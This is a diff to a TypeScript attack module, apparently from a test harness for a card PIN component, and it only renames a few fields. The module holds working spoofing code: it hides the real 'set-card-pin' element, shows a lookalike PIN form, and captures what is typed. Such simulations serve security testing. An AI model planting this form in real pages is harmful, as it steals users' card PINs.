@@ -1,10 +1,10 @@
 import type { Attack } from '../attack.js';
 
 export const fakeForm: Attack = {
-  title: 'fake form in its place',
-  does: 'Puts a form of its own, which looks alike, where the element was.',
-  diverts: true,
-  install: ({ take }) => {
+  title: 'fake form',
+  does: 'Hides the element and shows a form that looks like it.',
+  divertsKeys: true,
+  install: ({ capture }) => {
     const form = document.createElement('form');
     const fields = ['New PIN', 'Confirm new PIN'].map((label) => {
       const input = document.createElement('input');
@@ -19,7 +19,7 @@ export const fakeForm: Attack = {
       const element = document.querySelector<HTMLElement>('set-card-pin')!;
       element.hidden = true;
       if (!form.isConnected) document.body.prepend(form);
-      for (const { value } of fields) take('fake', value);
+      for (const { value } of fields) capture('fake', value);
     };
   },
 };
